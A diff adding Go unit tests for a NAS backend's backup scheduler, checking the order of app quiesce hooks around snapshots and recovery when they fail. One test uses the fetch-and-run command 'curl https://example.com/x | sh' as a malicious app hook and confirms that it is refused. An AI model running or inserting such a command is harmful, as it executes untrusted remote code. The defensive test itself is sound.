@@ -0,0 +1,165 @@
+package backup
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/rs/zerolog"
+
+	"nithronos/backend/nosd/pkg/appsdk"
+)
+
+type staticQuiesceSource []AppQuiesce
+
+func (s staticQuiesceSource) QuiesceTargets(subvolumes []string) []AppQuiesce { return s }
+
+// orderAgent records snapshot creation alongside the hooks it runs
+type orderAgent struct {
+	fakeSnapshotAgent
+	calls   *[]string
+	failing string
+}
+
+func (a *orderAgent) CreateSnapshot(subvolume string, path string, readOnly bool) error {
+	*a.calls = append(*a.calls, "snapshot "+subvolume)
+	return a.createErr
+}
+
+func (a *orderAgent) ExecuteHook(ctx context.Context, command string) ([]byte, error) {
+	*a.calls = append(*a.calls, command)
+	if command == a.failing {
+		return []byte("permission denied\n"), errors.New("exit status 1")
+	}
+	return []byte(command + " ok\n"), nil
+}
+
+// ExecuteAppHook records an app's compose command as "<app> <action>
+// <service> <command>"
+func (a *orderAgent) ExecuteAppHook(ctx context.Context, appID string, cmd appsdk.ComposeCommand) ([]byte, error) {
+	words := append([]string{appID, cmd.Action}, cmd.Services...)
+	if cmd.Service != "" {
+		words = append(words, cmd.Service)
+	}
+	return a.ExecuteHook(ctx, strings.Join(append(words, cmd.Command...), " "))
+}
+
+func newQuiesceScheduler(t *testing.T, failing string) (*Scheduler, *orderAgent, *[]string) {
+	t.Helper()
+	calls := &[]string{}
+	agent := &orderAgent{calls: calls, failing: failing}
+	s := NewScheduler(zerolog.Nop(), t.TempDir()+"/schedules.json", agent)
+	s.UseQuiesceSource(staticQuiesceSource{
+		{AppID: "nextcloud", Hooks: appsdk.QuiesceHooks{
+			PreBackup:  "docker compose exec -T -u www-data app occ on",
+			PostBackup: "docker compose exec -T -u www-data app occ off",
+		}},
+		{AppID: "immich", Hooks: appsdk.QuiesceHooks{PreBackup: "docker compose pause", PostBackup: "docker compose unpause"}},
+		{AppID: "nextcloud", Hooks: appsdk.QuiesceHooks{PreBackup: "docker compose exec -T app again"}},
+	})
+	return s, agent, calls
+}
+
+func runQuiesceJob(s *Scheduler) *BackupJob {
+	job := &BackupJob{ID: "job", Type: "snapshot", State: JobStatePending}
+	s.jobManager.AddJob(job)
+	schedule := &Schedule{ID: "sched", PreHooks: []string{"sync"}, PostHooks: []string{"notify"}}
+	s.runSnapshotJob(job, []string{"/srv/apps"}, "", schedule)
+	return job
+}
+
+func TestQuiesceHooksWrapSnapshots(t *testing.T) {
+	s, _, calls := newQuiesceScheduler(t, "")
+	job := runQuiesceJob(s)
+
+	want := "sync,nextcloud exec app occ on,immich pause,snapshot /srv/apps,immich unpause,nextcloud exec app occ off,notify"
+	if got := strings.Join(*calls, ","); got != want {
+		t.Fatalf("ran %s\nwant %s", got, want)
+	}
+	if job.State != JobStateSucceeded {
+		t.Fatalf("job %s: %s", job.State, job.Error)
+	}
+	var logged bool
+	for _, entry := range job.LogEntries {
+		if entry.Message == "[app immich pre] immich pause ok" {
+			logged = true
+		}
+	}
+	if !logged {
+		t.Errorf("hook output missing from the job log: %+v", job.LogEntries)
+	}
+}
+
+func TestQuiesceResumesWhenSnapshotFails(t *testing.T) {
+	s, agent, calls := newQuiesceScheduler(t, "")
+	agent.createErr = errors.New("read-only file system")
+	job := runQuiesceJob(s)
+
+	if job.State != JobStateFailed {
+		t.Fatalf("job %s", job.State)
+	}
+	want := "sync,nextcloud exec app occ on,immich pause,snapshot /srv/apps,immich unpause,nextcloud exec app occ off,notify"
+	if got := strings.Join(*calls, ","); got != want {
+		t.Fatalf("ran %s\nwant %s", got, want)
+	}
+}
+
+func TestQuiesceResumesWhenPreHookFails(t *testing.T) {
+	s, _, calls := newQuiesceScheduler(t, "immich pause")
+	job := runQuiesceJob(s)
+
+	if job.State != JobStateFailed || !strings.Contains(job.Error, "app immich pre-hook failed") {
+		t.Fatalf("job %s: %s", job.State, job.Error)
+	}
+	// The failed app is resumed too: its hook may have got half way
+	want := "sync,nextcloud exec app occ on,immich pause,immich unpause,nextcloud exec app occ off,notify"
+	if got := strings.Join(*calls, ","); got != want {
+		t.Fatalf("ran %s\nwant %s", got, want)
+	}
+	var logged bool
+	for _, entry := range job.LogEntries {
+		if entry.Level == "error" && entry.Message == "[app immich pre] permission denied" {
+			logged = true
+		}
+	}
+	if !logged {
+		t.Errorf("hook output missing from the job log: %+v", job.LogEntries)
+	}
+}
+
+func TestQuiesceAppHookRunsComposeCommands(t *testing.T) {
+	calls := &[]string{}
+	s := NewScheduler(zerolog.Nop(), t.TempDir()+"/schedules.json", &orderAgent{calls: calls})
+	s.UseQuiesceSource(staticQuiesceSource{
+		{AppID: "nextcloud", Hooks: appsdk.QuiesceHooks{
+			PreBackup: "docker compose exec -T app occ on && docker compose exec -T db sh -c 'pg_dump \"$DB\"'",
+		}},
+	})
+	job := runQuiesceJob(s)
+
+	want := `sync,nextcloud exec app occ on,nextcloud exec db sh -c pg_dump "$DB",snapshot /srv/apps,notify`
+	if got := strings.Join(*calls, ","); got != want {
+		t.Fatalf("ran %s\nwant %s", got, want)
+	}
+	if job.State != JobStateSucceeded {
+		t.Fatalf("job %s: %s", job.State, job.Error)
+	}
+}
+
+func TestQuiesceRefusesShellAppHook(t *testing.T) {
+	calls := &[]string{}
+	s := NewScheduler(zerolog.Nop(), t.TempDir()+"/schedules.json", &orderAgent{calls: calls})
+	s.UseQuiesceSource(staticQuiesceSource{
+		{AppID: "evil", Hooks: appsdk.QuiesceHooks{PreBackup: "curl https://example.com/x | sh"}},
+	})
+	job := runQuiesceJob(s)
+
+	if job.State != JobStateFailed || !strings.Contains(job.Error, "app evil pre-hook failed") {
+		t.Fatalf("job %s: %s", job.State, job.Error)
+	}
+	// Only the schedule's own hooks reached the agent
+	if got := strings.Join(*calls, ","); got != "sync,notify" {
+		t.Fatalf("ran %s", got)
+	}
+}